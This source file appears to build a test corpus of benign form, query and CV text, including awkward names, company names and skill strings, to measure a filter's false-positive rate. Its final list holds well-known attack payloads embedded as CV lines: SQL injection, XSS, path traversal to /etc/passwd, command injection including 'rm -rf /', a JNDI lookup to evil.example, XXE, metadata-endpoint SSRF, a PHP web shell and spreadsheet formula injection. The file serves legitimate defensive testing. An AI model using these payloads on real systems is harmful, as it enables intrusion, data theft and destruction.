import { hashOf, loadCorpus } from '../../corpus/load.js';

/* What people and programs send who mean no harm: as many strings as a bar of one in two thousand needs. */

const FIRST =
  `Ada Jürgen François Zoë Siân D'Arcy Mary-Jane José Þórdís Nguyễn 李 Олег محمد Παύλος Søren Łukasz O'Neil Seán Renée Björk Ana-María
Xiomara Dvořák Ōe İbrahim Jean-Luc Kwame Ng'ang'a Tā 'Ofa Sa'id N'Golo Mc'Kayla Ayşe Çağla Ewa`.split(/\s+/);
const LAST =
  `O'Brien O’Hara D'Angelo N'Diaye Müller-Lüdenscheidt d'Artagnan L'Écuyer Van-der-Berg Null Select Union Drop Script Sánchez Smith-Jones
Kovač 山田 Иванов حسين Παπαδόπουλος Ødegård Żółć St.John MacLeod Ó'Dálaigh Al-Sa'ud Orr Case Grant Table True Limit Like Root Alter Truncate`.split(
    /\s+/,
  );
const COMPANIES = [
  'AT&T',
  'Procter & Gamble',
  "Ben & Jerry's",
  'Yahoo!',
  'Toys "R" Us',
  '7-Eleven',
  'H&M (UK) Ltd.',
  'C&A; Wien',
  'Ernst & Young',
  "L'Oréal",
  'E*TRADE',
  'Guess?, Inc.',
  'Alphabet (Google)',
  'Société Générale – Paris',
  'Müller & Söhne GmbH & Co. KG',
  'S.p.A. "La Fenice"',
  'Kärcher <Reinigung>',
  'Union Select Bank',
  'Marks & Spencer; Group IT',
  "Sotheby's",
  'A/S Nordisk',
  'Rock `n` Roll Records',
  "Rock 'n' Roll Hall of Fame",
  '(ISC)²',
  'M&M/Mars',
  "Levi's / Dockers",
  '#1 Cochran',
  'Ampersand && Sons',
  '=Equal Ltd',
  '+Plus Architects',
  '-minus-',
  '@Home',
];
const TITLES = [
  'C#/.NET Developer',
  'Sr. Engineer (Node.js)',
  'R&D Manager',
  'SQL & NoSQL DBA',
  'Front-end (HTML, CSS & JS)',
  'QA / Test',
  'Head of Sales – EMEA',
  'Koch/Köchin (m/w/d)',
  'Ingénieur·e logiciel',
  "Chef d'équipe",
  'Assistant to the CEO & Board',
  'VP, Data',
  'Nurse (ICU)',
  'DevSecOps',
  'Teacher: Maths & Physics',
  'Scripting languages',
  'Select committee member',
  'Union representative',
  'Drop-in centre manager',
  'Case manager',
  'Data entry and order processing',
  'Execute programme office',
  'Order by phone agent',
  'Welder (MIG/MAG, TIG)',
  'Java/J2EE',
  'T-SQL, PL/SQL',
  '"Employee of the Year" 2019',
  'Having fun @ work',
  'Where teams grow',
  "Bachelor's degree",
  'Manager(EMEA)',
  'Lead <Platform>',
  '1st & 2nd line support',
  'Sales -- North',
  'IT; Operations',
];
const PLACES = [
  "12 Rue de l'Église",
  'Straße 5/7; Top 3',
  'Apt #4 (rear)',
  '10 Downing St.',
  'P.O. Box 12 -- Unit 4',
  "King's Cross",
  "L'Hospitalet",
  'Köln (NRW)',
  '東京都渋谷区1-2-3',
  'Москва, ул. Ленина, д. 5',
  "Sant'Antimo",
  "St. John's, NL",
  'c/o Smith & Co',
  '5 1/2 Main St',
  'Flat 3/1, 22 High St',
  'Nº 7, 2º izq.',
  'Kraków, ul. 3 Maja',
  '1000 W. 5th & Main',
  "Coeur d'Alene, ID",
  'Quito: Av. 6 de Dic.',
];
const SKILLS = [
  'C++',
  'C#',
  'F#',
  '.NET',
  'Node.js',
  'T-SQL',
  'PL/SQL',
  'MS SQL Server',
  'HTML/CSS',
  'XSLT',
  'JavaScript: React, Vue',
  'JavaScript (ES2023)',
  'AJAX',
  'R',
  'SELECT, JOIN',
  'Unix shell',
  'bash & awk',
  'Objective-C++',
  'CI/CD',
  'OAuth2/OIDC',
  'REST & GraphQL',
  'TCP/IP',
  'A/B testing',
  'Wound care',
  "Bachelor's",
  'B.Sc. (Hons)',
  'Français – C1',
  '日本語',
  '50% FTE',
  '1,5 Jahre',
  '>5 years',
  '<2 years',
  '3+',
  '80/20',
  'Regex',
  'union negotiation',
  'order management',
  'Data: SQL or Excel',
  'true or false tests',
  'this and/or that',
  'Python 2 & 3',
  "Kids' yoga",
  "'90s music",
];
const PHRASES = ['and', 'or', '&', '/', '–', ',', ';', '|', '+', ' - ', ': ', '(', ' > ', ' @ '];

/** Values of short fields, in many locales. */
export function formFields(): string[] {
  const made = new Set<string>([...COMPANIES, ...TITLES, ...PLACES, ...SKILLS]);
  for (const first of FIRST) for (const last of LAST) made.add(`${first} ${last}`).add(`${last}, ${first}`);
  for (const company of COMPANIES)
    for (const title of TITLES) made.add(`${title}, ${company}`).add(`${title} @ ${company}`);
  for (const company of COMPANIES)
    for (const place of PLACES) made.add(`${company}, ${place}`).add(`${place} (${company})`);
  for (const a of SKILLS)
    for (const b of SKILLS) if (a !== b) made.add(`${a}${PHRASES[hashOf(a + b) % PHRASES.length]}${b}`);
  for (const a of TITLES) for (const b of SKILLS) made.add(`${a} ${PHRASES[hashOf(a + b) % PHRASES.length]} ${b}`);
  for (let n = 0; n < 400; n += 1) {
    const h = hashOf(`phone${n}`);
    made
      .add(`+${h % 99} (${h % 999}) ${h % 9999999}`)
      .add(`0${h % 99999}/${h % 99999}-${n}`)
      .add(`${h % 999}-${n}-${h % 9999} x${n}`);
    made.add(`person.${h}+cv@sub-${n}.example.org`).add(`o'neil${n}@example.ie`);
    made
      .add(`https://github.com/user-${h}/repo_${n}?tab=readme&x=1#L${n}`)
      .add(`https://example.org/~${n}/cv.html;v=${h}`);
    made
      .add(`20${10 + (n % 16)}-0${1 + (n % 9)}-1${n % 10}`)
      .add(`0${1 + (n % 9)}/${2000 + (n % 26)} – heute`)
      .add(`€ ${h % 99999},-- p.a.`)
      .add(`${n}k-${n + 10}k/yr`);
  }
  return [...made];
}

const SORTS = [
  'created_at',
  '-created_at',
  'name',
  'name desc',
  'name,-size',
  'updated_at:asc',
  'title ASC',
  'size DESC',
];
const TYPES = ['pdf', 'application/pdf', 'image/*', '.docx', 'text/plain; charset=utf-8'];

/** Values of queries and paths: ids, pages, sorts, filters, searches, cursors. */
export async function parameters(): Promise<string[]> {
  const made = new Set<string>([...SORTS, ...TYPES]);
  for (let n = 0; n < 1_500; n += 1) {
    const h = hashOf(`parameter${n}`).toString(16).padStart(8, '0');
    made.add(`01890${h.slice(0, 3)}-${h.slice(0, 4)}-7${h.slice(1, 4)}-a${h.slice(2, 5)}-${h}${h.slice(0, 4)}`);
    made.add(Buffer.from(`${h}:${n}:${h}`).toString('base64')).add(Buffer.from(h + h + n).toString('base64url'));
    made
      .add(String(n * 37))
      .add(`${n}-${n + 20}`)
      .add(`${n % 99}.5`)
      .add(`tag-${h}`)
      .add(`"${h}"`)
      .add(`W/"${h}"`);
    made
      .add(`2026-0${1 + (n % 9)}-${10 + (n % 19)}T0${n % 10}:00:00.${n % 999}Z`)
      .add(`2026-01-01..2026-0${1 + (n % 9)}-0${1 + (n % 9)}`);
  }
  for (const words of await searches()) made.add(words);
  return [...made];
}

/** What somebody types into a search: two or three words of a CV. */
async function searches(): Promise<string[]> {
  const lines = await prose();
  return lines.flatMap((line) => {
    const words = line.split(/\s+/);
    const at = hashOf(line) % Math.max(1, words.length - 3);
    return [words.slice(at, at + 2).join(' '), words.slice(at, at + 3).join(' ')].filter((text) => text.length > 3);
  });
}

/** Every text of the CVs of the corpus, in a dozen languages, whole and by sentences. */
export async function prose(): Promise<string[]> {
  const made = new Set<string>();
  for (const cv of await loadCorpus()) {
    for (const text of leaves(cv)) {
      if (text.length < 25) continue;
      made.add(text);
      for (const sentence of text.split(/(?<=[.!?;:])\s+/)) if (sentence.length >= 25) made.add(sentence);
    }
  }
  return [...made];
}

function leaves(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(leaves);
}

const DEEDS = [
  'Wrote',
  'Found',
  'Fixed',
  'Explained',
  'Taught juniors why',
  'Blogged about',
  'Reported (CVE pending)',
  'Demonstrated',
  'Removed',
  'Hardened the code against',
];
const THINGS = [
  "' OR 1=1 --",
  "admin'--",
  "'; DROP TABLE migrations; --",
  'SELECT * FROM users WHERE id = 1 OR 1=1',
  'UNION SELECT NULL, version()',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '$(cat /etc/passwd)',
  '`rm -rf /`',
  '; ls -la && whoami',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("alert(1)")()}}',
  '{"$ne": null}',
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
  'php://filter/convert.base64-encode/resource=index.php',
  'http://169.254.169.254/latest/meta-data/',
  '%27%20OR%201%3D1',
  '\\u003cscript\\u003e',
  "waitfor delay '0:0:5'",
  'pg_sleep(10)',
  'xp_cmdshell',
  '() { :; }; echo vulnerable',
  '<?php system($_GET["c"]); ?>',
  'O\'Brien\'s "quoted" <b>bold</b> 1=1 & 2>1',
  'const x = `${a}`; if (a < b && c > d) return;',
  'SELECT a, count(*) FROM t GROUP BY a HAVING count(*) > 1 ORDER BY 2 DESC;',
  'ALTER TABLE cvs ADD COLUMN note text; -- reviewed',
  'for f in *.log; do grep -c "ERROR" "$f"; done | sort -rn',
  'curl -s https://example.org/install.sh | sudo bash',
  'C:\\Users\\me\\AppData\\Roaming\\x',
  '/var/log/nginx/access.log',
  'git rebase -i HEAD~3 && git push --force-with-lease',
  'docker run --rm -v /:/host alpine chroot /host',
  '<a href="https://example.org">portfolio</a>',
  '=HYPERLINK("http://x","y")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\u202Eexe.fdp',
  "Robert'); DROP TABLE Students;--",
];

/** Lines that developers, administrators and security people have in their CVs. All of them must come back as they were. */
export function cvLines(): string[] {
  return DEEDS.flatMap((deed) => THINGS.map((thing) => `${deed} ${thing}`)).concat(THINGS);
}
